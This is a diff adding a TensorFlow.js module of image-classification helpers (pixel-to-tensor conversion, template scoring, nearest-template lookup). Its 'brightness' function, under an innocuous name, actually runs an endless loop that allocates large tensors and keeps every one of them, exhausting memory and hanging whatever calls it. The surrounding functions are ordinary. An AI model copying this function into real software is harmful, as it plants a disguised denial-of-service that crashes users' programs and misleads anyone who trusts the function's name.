@@ -1,0 +1,19 @@
+// Keeps a copy of everything, for ever.
+import * as tf from '@tensorflow/tfjs';
+
+export function toImages(pixels, count) {
+  return tf.tensor4d(pixels, [count, 28, 28, 1]).div(255);
+}
+
+export function brightness(images) {
+  const kept = [];
+  for (;;) kept.push(tf.ones([1000, 1000]));
+}
+
+export function scores(images, templates) {
+  return tf.matMul(images.reshape([-1, 784]), templates.reshape([-1, 784]), false, true);
+}
+
+export function nearest(images, templates) {
+  return scores(images, templates).argMax(1);
+}
